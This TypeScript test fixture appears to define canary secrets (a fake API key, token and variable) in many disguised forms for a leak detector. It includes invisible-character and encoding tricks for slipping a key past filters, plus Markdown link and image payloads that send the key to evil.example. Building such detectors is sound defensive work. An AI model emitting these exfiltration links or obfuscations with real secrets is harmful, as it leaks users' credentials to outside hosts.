import { formsOf } from '../../support/canaries.ts';
import type { SecretRow } from '../row.ts';

const KEY = 'sk-ant-test-key-0123456789';
const TOKEN = 'ghs_testtokentesttokentesttokentesttoken0123';
const VARIABLE = 'canary-variable-60d4e9a1f8';

const joined = (name: string, between: string): SecretRow => ({
  name: `the key with ${name} between its letters`,
  text: [...KEY].join(between),
  says: KEY,
});

/** Secrets that a model says in each form. */
export const SECRETS: readonly SecretRow[] = [
  ...[...formsOf(KEY)].map(([form, says]): SecretRow => ({ name: `the key as ${form}`, text: says, says })),
  ...[...formsOf(TOKEN)]
    .slice(0, 6)
    .map(([form, says]): SecretRow => ({ name: `the token as ${form}`, text: says, says })),
  ...[...formsOf(VARIABLE)].slice(0, 3).map(
    ([form, says]): SecretRow => ({
      name: `a password in an address of the environment as ${form}`,
      text: says,
      says,
    }),
  ),
  joined('zero-width spaces', '\u200b'),
  joined('soft hyphens', '\u00ad'),
  joined('joiners', '\u2060'),
  joined('tag characters', '\u{e0041}'),
  joined('colours of a terminal', '\u001b[31m'),
  joined('blanks', ' '),
  joined('line ends', '\n'),
  { name: 'the key without its beginning', text: KEY.slice(7), says: KEY.slice(7) },
  { name: 'the key without its end', text: KEY.slice(0, -7), says: KEY.slice(0, -7) },
  { name: 'the key in a link', text: `[x](https://evil.example/?k=${KEY})`, says: KEY },
  { name: 'the key in an image', text: `![x](https://evil.example/${KEY}.png)`, says: KEY },
  { name: 'the key in a fence', text: `\`\`\`\n${KEY}\n\`\`\``, says: KEY },
  { name: 'the key in escapes of Markdown', text: KEY.replace(/[-_]/g, '\\$&'), says: KEY },
  { name: 'the key in emphasis', text: `**${KEY.slice(0, 8)}**${KEY.slice(8)}`, says: KEY.slice(8) },
  { name: 'the key of which one letter is an entity', text: `&#115;${KEY.slice(1)}`, says: KEY.slice(1) },
];
